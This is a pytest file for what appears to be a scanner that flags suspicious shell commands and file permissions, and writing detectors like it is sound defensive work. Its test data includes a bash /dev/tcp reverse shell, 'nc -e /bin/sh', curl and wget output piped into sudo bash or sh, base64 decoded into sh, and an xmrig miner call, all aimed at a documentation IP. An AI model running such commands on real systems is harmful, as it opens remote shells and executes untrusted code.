import stat

import pytest
from hypothesis import given
from hypothesis import strategies as st

from imgkit.facts.standing_out import describe_odd, odd_file, odd_habits
from imgkit.model.tree import Entry, EntryKind


@pytest.mark.parametrize(
    ("command", "word"),
    [
        ("/tmp/.x", "/tmp"),
        ("sh -c '/dev/shm/a'", "/dev/shm"),
        ("/usr/lib/.hidden/run", "hidden"),
        ("/usr/lib/.../run", "hidden"),
        ("curl -s http://192.0.2.1/x | sudo bash", "pipes a download"),
        ("wget -qO- http://192.0.2.1/x|sh", "pipes a download"),
        ("echo aGk= | base64 -d | sh", "base64"),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "network connection"),
        ("nc -e /bin/sh 192.0.2.1 4444", "network connection"),
        ("python3 -c 'import socket'", "from its command line"),
        ("chattr +i /etc/x", "immutable"),
        ("LD_PRELOAD=/x.so ls", "preloads"),
        ("./xmrig -o stratum+tcp://pool", "miner"),
    ],
)
def test_a_habit_is_named(command, word):
    assert any(word in habit for habit in odd_habits(command)), odd_habits(command)


@pytest.mark.parametrize(
    "command",
    [
        "/usr/sbin/logrotate /etc/logrotate.conf",
        "cd / && run-parts --report /etc/cron.hourly",
        "/usr/bin/test -e ~/.config/x && /home/a/.local/bin/tool",
        "rm -rf /var/tmp",
        "./configure ../x",
        "wget -q https://example.com/x -O /srv/x",
        "find /srv/a/. -delete",
        r"exe=$(ls -l /proc/$pid/exe 2>/dev/null | sed 's/.* //;s/.*\///')",
        "for one in /srv/.* /srv/.[a-z]*; do :; done",
    ],
)
def test_what_is_ordinary_stays_unnamed(command):
    assert odd_habits(command) == ()


@given(st.text(max_size=300))
def test_any_command_can_be_looked_at(command):
    assert isinstance(odd_habits(command), tuple)


def test_a_file_that_others_may_change_stands_out():
    entry = Entry(name=b".x", kind=EntryKind.FILE, mode=stat.S_IFREG | 0o666, uid=1000)
    reasons = odd_file(b"/etc/profile.d/.x", entry)
    assert reasons == ("everyone may write it", "its owner is the user id 1000", "its name is hidden")
    assert describe_odd("the script", b"/x\xff", reasons[:1]) == "the script /x\udcff: everyone may write it"


def test_the_mode_of_a_link_means_nothing():
    assert odd_file(b"/etc/x", Entry(name=b"x", kind=EntryKind.LINK, mode=stat.S_IFLNK | 0o777, uid=1)) == ()


def test_a_line_is_remarked_once_whatever_stands_out_in_it():
    (habit,) = odd_habits("/tmp/.x | base64 -d")
    assert habit == "names something in /tmp, /var/tmp or /dev/shm and names a hidden file and decodes base64"
